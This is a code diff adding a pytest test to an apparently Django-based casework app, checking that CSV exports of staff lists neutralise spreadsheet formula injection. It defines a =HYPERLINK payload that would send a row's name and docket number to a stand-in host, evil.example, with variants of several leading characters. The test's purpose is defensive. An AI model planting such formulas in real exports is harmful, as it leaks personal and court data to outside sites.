@@ -292,3 +292,31 @@ def test_a_shown_identity_and_an_export_are_audited_and_a_list_on_screen_is_not(
         (manager.user, "cases", 1)
     ]
     assert not AuditEvent.objects.filter(action="case.identities_listed").exists()
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/x?"&B2&C2,"open")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_formula_typed_by_staff_is_inert_in_every_export(
+    staff_client, staff_user, field_keys, start
+):
+    # A court field that, opened in a spreadsheet, would send the row's name and docket
+    # to an outside site in one click (https://owasp.org/www-community/attacks/CSV_Injection).
+    manager = staff_user("case_manager")
+    court = start + HYPERLINK[1:]
+    someone = Identity(name="Someone Else", docket_number="CR-2026-000002")
+    open_case(manager, someone, court=court)
+    client = staff_client("case_manager")
+
+    for name in STAFF_LISTS:
+        body = client.get(reverse(name) + "?_export=csv")
+        text = (b"".join(body.streaming_content) if body.streaming else body.content).decode()
+        for row in csv.reader(io.StringIO(text)):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
+                assert not cell.startswith("-") or re.fullmatch(r"-\$?[\d,.]+", cell)
+    (row,) = [r for r in _csv(client.get(reverse("casework:cases") + "?_export=csv"))
+              if r["Name"] == "Someone Else"]  # fmt: skip
+    # Shown as typed, never run (a leading tab or return is trimmed when the case is saved).
+    assert row["Court"] == ("'" + court if court == court.strip() else court.strip())
